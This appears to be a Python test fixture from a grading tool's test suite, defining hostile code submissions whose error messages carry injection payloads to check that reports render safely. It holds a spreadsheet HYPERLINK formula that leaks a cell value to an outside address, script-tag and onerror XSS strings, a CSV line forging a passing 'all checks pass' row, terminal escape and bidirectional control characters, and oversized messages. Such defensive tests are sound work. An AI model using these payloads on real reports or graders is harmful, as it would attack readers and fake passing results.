"""Texts meant for whoever reads the report, or for the program that shows it."""

from tests.hostile import hostile

SUBMISSIONS = {
    "formula": hostile(
        """
        def softmax(x):
            raise ValueError('=HYPERLINK("http://example.org/?"&A1,"all right")')
        """,
        "HYPERLINK",
    ),
    "script": hostile(
        """
        def softmax(x):
            raise ValueError("<script>alert(1)</script><img src=x onerror=alert(1)>")
        """,
        "script",
    ),
    "rows": hostile(
        r"""
        def softmax(x):
            raise ValueError("wrong\r\nmallory,2.2.2,100,100,pass,\"all checks pass\"")
        """,
        "wrong",
    ),
    "odd_characters": hostile(
        r"""
        def softmax(x):
            raise ValueError("\u202eevitisop\u202c \ud800 \x1b[2J\x1b]0;pwned\x07 \x00 \ufeff "
                             "\u2066\u200b e" + "\u0301" * 500)
        """,
        "ValueError",
    ),
    "long_message": hostile(
        """
        def softmax(x):
            raise ValueError("x" * 10**7)
        """,
        "ValueError: xxx",
    ),
    "long_name": hostile(
        """
        def softmax(x):
            raise type("E" * 10**6, (Exception,), {})("all checks pass")
        """,
        "raised EEE",
    ),
    "odd_cell_text": hostile(
        r"""
        def softmax(x):
            1 / 0  # "\u202e" </pre><script>alert(1)</script> [a](javascript:b) $\href{x}{y}$
        """,
        "ZeroDivisionError",
    ),
}
